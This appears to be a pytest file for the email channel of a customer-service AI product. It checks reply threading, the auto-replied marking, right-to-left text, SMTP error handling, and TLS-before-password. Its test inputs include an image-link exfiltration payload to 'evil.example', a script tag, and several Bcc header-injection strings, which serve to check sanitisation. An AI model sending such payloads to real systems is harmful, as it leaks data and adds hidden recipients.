"""An answer stands in its thread, says who wrote it, and its outcome is told as it is."""

from __future__ import annotations

from email import message_from_bytes, policy

import pytest
from csai_sdk import ChannelError, OutboundMessage
from csai_testkit.context import make_context

from plugins.channels.email.tests.mail_servers import open_post_office
from plugins.channels.email.tests.mails import CHANNEL, account


async def test_an_answer_stands_in_its_thread_and_says_that_a_program_wrote_it() -> None:
    message = OutboundMessage(
        "message-1",
        "ann@visitor.example",
        "**Friday** it is.\n\n![pixel](https://evil.example/?q=secret) <script>x</script>",
        subject="My order",
        thread="0123456789abcdef",
        in_reply_to="<one@visitor.example>",
        references=("<zero@visitor.example>",),
    )
    async with open_post_office() as office:
        sent_id = await CHANNEL.send(
            message, account(office=office, signature="The Shop, Main Street"), make_context()
        )
        (envelope,) = office.taken
    assert (envelope.mail_from, envelope.rcpt_tos) == ("help@shop.example", ["ann@visitor.example"])
    assert isinstance(envelope.content, bytes)
    mail = message_from_bytes(envelope.content, policy=policy.default)
    assert mail["Message-ID"] == sent_id == "<csai.message-1.t0123456789abcdef@shop.example>"
    assert mail["Subject"] == "Re: My order"
    assert mail["From"] == "The Shop <help@shop.example>"
    assert mail["References"] == "<zero@visitor.example> <one@visitor.example>"
    assert mail["In-Reply-To"] == "<one@visitor.example>"
    assert mail["Auto-Submitted"] == "auto-replied"
    text, page = (mail.get_body((kind,)) for kind in ("plain", "html"))
    assert text is not None
    assert page is not None
    assert text.get_content().replace("\r\n", "\n").endswith("-- \nThe Shop, Main Street\n")
    shown = page.get_content()
    assert "<strong>Friday</strong>" in shown
    assert "<img" not in shown
    assert "<script>" not in shown


async def test_a_teammates_answer_is_not_marked_as_automatic() -> None:
    message = OutboundMessage("m", "ann@visitor.example", "Hello.", author="teammate")
    async with open_post_office() as office:
        await CHANNEL.send(message, account(office=office), make_context())
        (envelope,) = office.taken
    assert isinstance(envelope.content, bytes)
    assert message_from_bytes(envelope.content, policy=policy.default)["Auto-Submitted"] is None


async def test_hebrew_is_written_from_right_to_left() -> None:
    message = OutboundMessage("m", "ann@visitor.example", "\u05e9\u05dc\u05d5\u05dd")
    async with open_post_office() as office:
        await CHANNEL.send(message, account(office=office), make_context())
        (envelope,) = office.taken
    assert isinstance(envelope.content, bytes)
    page = message_from_bytes(envelope.content, policy=policy.default).get_body(("html",))
    assert page is not None
    assert '<div dir="rtl">' in page.get_content()


@pytest.mark.parametrize(
    "address",
    ["ann@visitor.example\r\nBcc: all@visitor.example", "ann@visitor.example, all@visitor.example", "", "x"],
)
async def test_an_address_that_could_be_several_is_refused(address: str) -> None:
    async with open_post_office() as office:
        with pytest.raises(ChannelError) as caught:
            await CHANNEL.send(OutboundMessage("m", address, "Hi"), account(office=office), make_context())
    assert (caught.value.fault, office.taken) == ("address", [])


@pytest.mark.parametrize("end", ["\r\n", "\n", "\u2028", "\x00"])
async def test_a_subject_writes_no_header(end: str) -> None:
    message = OutboundMessage("m", "ann@visitor.example", "Hi", subject=f"x{end}Bcc: all@visitor.example")
    async with open_post_office() as office:
        await CHANNEL.send(message, account(office=office), make_context())
        (envelope,) = office.taken
    assert envelope.rcpt_tos == ["ann@visitor.example"]
    assert isinstance(envelope.content, bytes)
    written = message_from_bytes(envelope.content, policy=policy.default)
    # The first of a thread: there is nothing that it would answer.
    assert (written["Bcc"], written["Subject"]) == (None, "x Bcc: all@visitor.example")


@pytest.mark.parametrize(
    ("said", "fault"),
    [
        ("550 no such user", "address"),
        ("451 greylisted", "busy"),
        ("421 closing", "busy"),
        ("554 spam", "refused"),
    ],
)
@pytest.mark.parametrize("command", ["RCPT", "DATA"])
async def test_what_the_mail_server_refuses_is_told_apart(command: str, said: str, fault: str) -> None:
    async with open_post_office(refusals={command: said}) as office:
        with pytest.raises(ChannelError) as caught:
            await CHANNEL.send(
                OutboundMessage("m", "ann@visitor.example", "Hi"), account(office=office), make_context()
            )
    assert (caught.value.fault, caught.value.is_outcome_known) == (fault, True)


async def test_a_connection_that_breaks_after_the_mail_leaves_its_outcome_unknown() -> None:
    async with open_post_office(hangs_up_after_data=True) as office:
        with pytest.raises(ChannelError) as caught:
            await CHANNEL.send(
                OutboundMessage("m", "ann@visitor.example", "Hi"), account(office=office), make_context()
            )
    assert not caught.value.is_outcome_known


async def test_a_wrong_password_for_sending_is_for_the_admin_to_mend() -> None:
    async with open_post_office(password="another") as office:
        with pytest.raises(ChannelError) as caught:
            await CHANNEL.send(
                OutboundMessage("m", "ann@visitor.example", "Hi"), account(office=office), make_context()
            )
    assert (caught.value.fault, caught.value.is_outcome_known) == ("account", True)


async def test_a_server_without_encryption_is_not_sent_a_password() -> None:
    async with open_post_office() as office:
        given = account(office=office, smtp_security="starttls")
        with pytest.raises(ChannelError) as caught:
            await CHANNEL.send(OutboundMessage("m", "ann@visitor.example", "Hi"), given, make_context())
    assert (caught.value.fault, office.taken) == ("account", [])
